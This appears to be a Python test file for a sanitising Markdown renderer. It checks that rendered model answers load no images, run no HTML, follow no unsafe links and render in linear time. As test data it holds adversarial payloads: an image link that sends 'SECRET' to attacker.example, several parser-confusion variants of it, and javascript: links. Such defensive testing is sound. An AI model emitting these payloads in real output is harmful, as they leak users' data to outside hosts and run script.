"""The model's Markdown renderer: what a CommonMark reader sees in its output loads nothing, runs
nothing, and the work is linear in the answer's length.

The judge of "what a reader sees" is markdown-it-py's own CommonMark parse (the parser Streamlit's
renderer agrees with on these constructs), applied to the renderer's output."""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from web.markdown import MAX_MARKDOWN_CHARS, SAFE_SCHEMES, answer_markdown

COMMONMARK = MarkdownIt("commonmark")
READER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
IMAGE = "![x](https://attacker.example/p.png?d=SECRET)"

# each of these is an image to a CommonMark reader, though a code-matching pattern saw code
ADVERSARIAL = {
    "mismatched backtick runs": f"``{IMAGE}`",
    "a longer closing fence": f"```\nx\n````\n{IMAGE}",
    "a four-space-indented fence": f"    ```\n{IMAGE}\n    ```",
    "a fence info string with a backtick": f"```a`b\n{IMAGE}\n```",
    "an image in a link": f"[{IMAGE}](https://e.org)",
    "a reference image": "![x][1]\n\n[1]: https://attacker.example/p.png",
    "an image in a list in a quote": f"> - {IMAGE}",
    "an image in a table": f"| a |\n| - |\n| {IMAGE} |",
    "an html image": '<img src="https://attacker.example/p.png">',
    "an inline html image": 'see <img src="https://attacker.example/p.png"> here',
}


def _all_tokens(text: str, parser: MarkdownIt = READER):
    for t in parser.parse(text):
        yield t
        yield from t.children or []


def _what_loads_or_runs(markdown: str) -> list[str]:
    """What a reader of ``markdown`` would load, run or follow to an unsafe place."""
    bad = []
    for t in _all_tokens(markdown):
        if t.type == "image" or t.type.startswith("html"):
            bad.append(f"{t.type}: {t.content or t.attrs}")
        if t.type == "link_open" and not str(t.attrs.get("href", "")).lower().startswith(SAFE_SCHEMES):
            bad.append(f"link to {t.attrs.get('href')}")
    return bad


@pytest.mark.parametrize("text", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_what_commonmark_reads_as_an_image_or_html_is_shown_as_text(text):
    # the input is an image or HTML to CommonMark itself (markdown-it-py, commonmark mode) ...
    assert any(t.type == "image" or t.type.startswith("html") for t in _all_tokens(text, COMMONMARK))
    out = answer_markdown(text)
    # ... and the output is not, to the same reader
    assert _what_loads_or_runs(out) == []
    assert "attacker.example" not in "".join(t.attrs.get("href", "") for t in _all_tokens(out))


def test_images_become_their_alt_text():
    out = answer_markdown(f"``{IMAGE}`")
    shown = "".join(t.content for t in _all_tokens(out) if t.type == "text")
    assert "[image: x]" in shown


# Markdown-ish text: every character a construct can start with, plus words and line breaks
_PIECES = st.sampled_from(
    ["`", "``", "```", "~~~", "    ", "\n", "\n\n", "[", "]", "(", ")", "!", "<", ">", "&", ";", "*", "_", "#"]
    + ["-", "1.", "|", ":", "$", "\\", '"', "x", "img", " ", "https://a.example/p.png", "javascript:", "<img src=a>"]
    + ["<div>", "</div>", "&lt;", "&#60;", "![", "](", "[1]: ", "mailto:a@b", "<https://q>", "- ", "> ", "| - |"]
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PIECES, max_size=60).map("".join))
def test_no_markdown_input_makes_the_output_load_or_run_anything(text):
    out = answer_markdown(text)
    assert _what_loads_or_runs(out) == []
    assert answer_markdown(out) is not None  # and the output itself renders (no crash on our own output)


def test_formatting_is_kept():
    text = (
        "# Plan\n\n**Bold** and *it* and ~~gone~~ and `code`.\n\n1. one\n2. two\n   - nested\n\n"
        "> quoted\n\n```python\nprint('<b>$x$</b>')\n```\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n"
        "[docs](https://e.org/a_(b)) and <mailto:a@b.example>\n\n***"
    )
    kinds = {t.type for t in _all_tokens(answer_markdown(text))}
    assert kinds >= {"heading_open", "strong_open", "em_open", "s_open", "code_inline", "ordered_list_open"}
    assert kinds >= {"bullet_list_open", "blockquote_open", "fence", "table_open", "link_open", "hr"}
    fences = [t for t in _all_tokens(answer_markdown(text)) if t.type == "fence"]
    assert fences[0].info == "python" and fences[0].content == "print('<b>$x$</b>')\n"
    links = [t.attrs["href"] for t in _all_tokens(answer_markdown(text)) if t.type == "link_open"]
    assert links == ["https://e.org/a_%28b%29", "mailto:a@b.example"]


def test_code_keeps_its_text_exactly():
    for code in ["a ` b", "``x``", " lead", "`", "  ", "x|y"]:
        out = answer_markdown(f"see {'`' * 5} {code} {'`' * 5} there")
        (span,) = [t for t in _all_tokens(out) if t.type == "code_inline"]
        assert span.content == COMMONMARK.parseInline(f"{'`' * 5} {code} {'`' * 5}")[0].children[0].content


def test_streamlit_and_html_syntax_in_text_is_escaped():
    # an entity shows as the character it names (as CommonMark reads it), escaped
    out = answer_markdown("$x$ :red[a] :material/home: &lt;b&gt; <b> &amp;")
    assert out == "\\$x\\$ \\:red\\[a\\] \\:material/home\\: \\<b> \\<b> \\&"


def test_text_that_only_counts_at_a_line_start_is_escaped_there():
    out = answer_markdown("Plain text. 1. not a list\n2. still text\n\\- no item\n\\# no heading")
    assert out == "Plain text. 1. not a list\n2\\. still text\n\\- no item\n\\# no heading"
    assert [t.type for t in READER.parse(out)] == ["paragraph_open", "inline", "paragraph_close"]


def test_links_to_other_schemes_keep_only_their_text():
    assert answer_markdown('[a](JavaScript:alert(1) "t")') == "a"
    assert answer_markdown("[z](/relative) [y](data:text/html,x) [m](mailto:a@b.example)") == (
        "z y [m](mailto:a@b.example)"
    )
    assert answer_markdown("[a][1]\n\n[1]: javascript:alert(1)") == "a"


def test_a_cut_off_fence_is_still_code():
    assert answer_markdown("```\nunclosed <x> $y$") == "```\nunclosed <x> $y$\n```"


def test_a_huge_answer_is_literal_text():
    out = answer_markdown("[" * 200_000)  # the input that took 345 s
    assert out == "\\[" * 200_000
    assert _what_loads_or_runs(answer_markdown(IMAGE * (MAX_MARKDOWN_CHARS // len(IMAGE) + 1))) == []


@pytest.mark.parametrize("unit", ["[", "![", "[a](", "*a", "- [", "> [", "<a ", "`a"])
def test_the_work_is_linear_in_the_length(unit):
    """CPU time for n and 4n characters: linear is 4x, the old quadratic scan 16x; the bound is
    wide (8x) because the machine is shared, and each size takes its best of three runs."""

    def cost(n: int) -> float:
        text = unit * (n // len(unit))
        best = float("inf")
        for _ in range(3):
            start = time.process_time()
            answer_markdown(text)
            best = min(best, time.process_time() - start)
        return max(best, 1e-4)

    n = MAX_MARKDOWN_CHARS // 4
    assert cost(4 * n) / cost(n) < 8
